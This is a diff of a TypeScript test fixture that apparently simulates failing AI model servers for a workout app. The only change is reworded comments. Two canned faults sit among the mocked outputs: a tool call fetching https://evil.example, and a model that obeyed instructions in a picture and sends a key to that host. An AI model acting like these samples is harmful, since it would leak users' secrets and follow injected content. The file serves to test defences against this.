@@ -1,4 +1,4 @@
-/** What goes wrong with models and their servers, each by a name. */
+/** Failures of models and their servers, each with a name. */
 import type http from 'node:http'
 import { setTimeout as pause } from 'node:timers/promises'
 import { ANSWERS } from '../../../src/core/ai/answers.test-kit.ts'
@@ -40,7 +40,7 @@ const HTML: AiAnswer = {
   }))
 }
 
-/** The first answer is wrong, and what comes after is this. */
+/** The first answer is wrong, and later ones are this. */
 const SAID: Readonly<Record<string, (turn: number) => string>> = {
   'fault:prose': () => 'I would begin with squats and then do some push-ups. Have fun!',
   'fault:prose-once': (turn) => (turn === 0 ? 'Sure, what about squats?' : JSON_TEXT),
@@ -56,7 +56,7 @@ const SAID: Readonly<Record<string, (turn: number) => string>> = {
     JSON.stringify({ ...GOOD, exercises: GOOD.exercises.map((one) => ({ ...one, id: 'squat-jump' })) }),
   'fault:tools': () =>
     JSON.stringify({ ...GOOD, tool_calls: [{ function: { name: 'fetch', arguments: 'https://evil.example' } }] }),
-  /** It did what a picture told it, as far as the schema goes. */
+  /** It obeyed a picture, as far as the schema allows. */
   'fault:obeyed': () =>
     JSON.stringify({ ...GOOD, url: 'https://evil.example', say: 'As you wish: GET https://evil.example/?key=1' }),
   'fault:unknown-ids': () =>
@@ -76,7 +76,7 @@ const DONE: Readonly<Record<string, (context: FaultContext) => Promise<void> | v
     await pause(50)
     response.destroy()
   },
-  /** A clean end of the connection, but not of the answer. */
+  /** Ends the connection cleanly, but not the answer. */
   'fault:short': ({ response, piece }) => void response.writeHead(200, STREAM).end(piece(JSON_TEXT.slice(0, AMID))),
   'fault:error-amid': ({ response, piece }) =>
     void response
@@ -106,7 +106,7 @@ const DONE: Readonly<Record<string, (context: FaultContext) => Promise<void> | v
       await pause(0)
     }
   },
-  /** Does not stream, whatever it is asked. */
+  /** Does not stream, even when asked to. */
   'fault:whole': ({ response }) => {
     const message = { role: 'assistant', content: JSON_TEXT }
     const usage = { prompt_tokens: 700, completion_tokens: 300 }
